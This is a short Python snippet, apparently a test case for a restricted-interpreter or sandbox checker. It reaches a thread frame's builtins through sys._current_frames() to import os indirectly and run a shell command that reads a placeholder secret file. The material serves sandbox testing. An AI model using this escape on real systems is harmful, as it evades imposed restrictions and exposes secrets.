# sys._current_frames() gives every thread's frame.
# effect: run
import sys
list(sys._current_frames().values())[0].f_builtins["__import__"]("os").system("cat @SECRET@")
